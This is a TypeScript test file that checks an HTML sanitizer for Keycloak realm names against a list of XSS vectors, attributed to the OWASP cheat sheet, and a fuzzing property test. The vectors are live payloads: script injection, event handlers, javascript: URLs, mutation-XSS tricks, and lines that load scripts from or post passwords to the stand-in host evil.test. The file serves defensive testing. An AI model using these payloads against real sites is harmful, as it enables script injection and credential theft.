import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { type DefaultTreeAdapterTypes, defaultTreeAdapter, parseFragment } from 'parse5';
import { sanitizeHtml } from './sanitize-html.ts';

const sanitize = (text: string): string => String(sanitizeHtml(text));

type Node = DefaultTreeAdapterTypes.Node;

const ELEMENTS = new Set(
  'a abbr b bdi bdo big blockquote br caption center cite code dd del dfn div dl dt em font h1 h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q rp rt ruby s samp small span strike strong sub summary sup table tbody td tfoot th thead tr tt u ul var wbr'.split(
    ' ',
  ),
);
const ATTRIBUTES = /^(?:class|dir|id|lang|title|href|rel|target|alt|height|src|width|color|face|size)$/;

/** What a browser makes of the text: elements and attributes that could run code or load something else than images. */
function findDangers(node: Node): readonly string[] {
  const children = 'childNodes' in node ? node.childNodes.flatMap(findDangers) : [];
  if (!defaultTreeAdapter.isElementNode(node)) return children;
  const attributes = node.attrs.flatMap(({ name, value }) => {
    if (!ATTRIBUTES.test(name)) return [name];
    const isAddress = name === 'href' || name === 'src';
    const scheme = /^[\0-\x20]*([a-z][a-z0-9+.-]*)[\0-\x20]*:/i.exec(value.replace(/[\t\n\r]/g, ''))?.[1];
    return isAddress && scheme !== undefined && !/^(?:https?|mailto|tel|ftp|data)$/i.test(scheme)
      ? [value]
      : [];
  });
  return [...(ELEMENTS.has(node.tagName) ? [] : [node.tagName]), ...attributes, ...children];
}

const dangersOf = (html: string): readonly string[] => findDangers(parseFragment(html));

test('Keycloak realm names: markup that names, describes and pictures stays', () => {
  for (const kept of [
    '<div class="kc-logo-text"><span>Keycloak</span></div>',
    '<b>Acme</b> &amp; Co',
    '<img src="https://acme.test/logo.png" alt="Acme">',
    '<a href="https://acme.test/?a=1" target="_blank">Help</a>',
    '<p>One<br>two</p>',
  ])
    assert.equal(sanitize(kept), kept);
  assert.equal(sanitize('plain'), 'plain');
  assert.equal(sanitize('A & B'), 'A & B');
});

/** OWASP XSS Filter Evasion Cheat Sheet, and what sanitizers have let through before. */
const VECTORS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.test/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</script>',
  '<script\n>alert(1)</script\n>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"',
  '<img """><script>alert(1)</script>"\\>',
  '<img src=javascript:alert(1)>',
  '<img src="jav&#x09;ascript:alert(1);">',
  '<img src="jav\tascript:alert(1);">',
  '<img src=" &#14; javascript:alert(1);">',
  '<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;lert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href=x onclick=alert(1)>x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.test"><input name=password><button>Sign in</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<style>@import "https://evil.test/x.css";</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<link rel=stylesheet href="https://evil.test/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<base href="https://evil.test/">',
  '<body onload=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<b/onclick=alert(1)>x</b>',
  '<b\nonclick\n=\nalert(1)>x</b>',
  '<b x="\'"onclick=alert(1)>x</b>',
  '<<img src=x onerror=alert(1)//',
  '<img src=x:x onerror\0=alert(1)>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '</p><img src=x onerror=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
];

for (const vector of VECTORS)
  test(`refused: ${JSON.stringify(vector)} runs nothing`, () => {
    assert.deepEqual(dangersOf(sanitize(vector)), []);
  });

test('property: whatever is written, a browser finds only harmless elements and attributes', () => {
  const piece = fc.oneof(
    fc.constantFrom(...VECTORS.flatMap((vector) => vector.split(/(?=[<>"'= ])/))),
    fc.string({ maxLength: 4 }),
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
      assert.deepEqual(dangersOf(sanitize(pieces.join(''))), []);
    }),
    { numRuns: 2000 },
  );
});

test('refused: very long text is shown with its markup escaped', () => {
  assert.ok(sanitize(`<b>${'x'.repeat(200_000)}</b>`).startsWith('&lt;b&gt;'));
});
